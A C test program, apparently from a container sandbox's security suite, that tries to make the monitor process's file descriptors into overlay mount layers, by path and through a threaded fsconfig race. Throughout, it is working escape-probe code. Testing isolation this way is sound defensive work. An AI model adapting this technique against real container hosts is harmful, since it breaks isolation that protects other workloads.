// Layers of an overlay named by descriptor (FSCONFIG_SET_FD, Linux 6.13) or by a path through one, in user and mount
// namespaces of one's own: none may be one of the monitor's (its procfs has none of the container's masks).
#include "attack.h"
#include <linux/mount.h>
#include <sys/syscall.h>
#include <pthread.h>

static int fs;

static void *threads(void *unused) {
    usleep(100);
    return unused;
}

static void *vcpus(void *unused) {
    for (;;) {
        pthread_t thread;
        if (pthread_create(&thread, NULL, threads, NULL) == 0)
            pthread_join(thread, NULL);
    }
    return unused;
}

static int taken(const char *key, int fd) {
    if (fcntl(fd, F_GETFD) >= 0 || syscall(SYS_fsconfig, fs, FSCONFIG_SET_FD, key, NULL, fd) < 0)
        return 0;
    return fcntl(fd, F_GETFD) < 0; // another thread's, meanwhile
}

static int layer(const char *path) {
    char options[192];
    snprintf(options, sizeof options, "lowerdir=%s:/tmp/lower", path);
    return syscall(SYS_mount, "overlay", "/tmp/layers", "overlay", 0, options) == 0;
}

static void by_path(int fd) {
    static const char *const forms[] = {"/proc/self/fd/%d", "/proc/self/fd/%d/self",
                                        "/proc/thread-self/fd/%d/.."};
    char path[64];
    for (int i = 0; i < 3; i++) {
        snprintf(path, sizeof path, forms[i], fd);
        if (layer(path))
            attack_won("%s is a layer of an overlay", path);
    }
}

int main(void) {
    pthread_t thread;
    mkdir("/tmp/layers", 0777), mkdir("/tmp/lower", 0777), mkdir("/tmp/lower2", 0777);
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
        attack_broken("unshare");
    fs = (int)syscall(SYS_fsopen, "overlay", 0);
    int lower = open("/tmp/lower", O_PATH | O_DIRECTORY);
    if (fs < 0 || syscall(SYS_fsconfig, fs, FSCONFIG_SET_STRING, "lowerdir+", "/tmp/lower2", 0) < 0 ||
        (syscall(SYS_fsconfig, fs, FSCONFIG_SET_FD, "lowerdir+", NULL, lower) < 0 && errno != EINVAL) ||
        !layer("/tmp/lower2"))
        attack_broken("an overlay of one's own");
    for (int fd = 940; fd < 1010; fd++) // where the monitor's are, with the limit of a container
        if (fcntl(fd, F_GETFD) < 0)
            by_path(fd);
    pthread_create(&thread, NULL, vcpus, NULL);
    while (!attack_over())
        for (int fd = 3; fd < 1200 && !attack_over(); fd++)
            if (taken("lowerdir+", fd) || taken("upperdir", fd) || taken("workdir", fd))
                attack_won("descriptor %d of the monitor is a layer", fd);
    attack_lost();
}
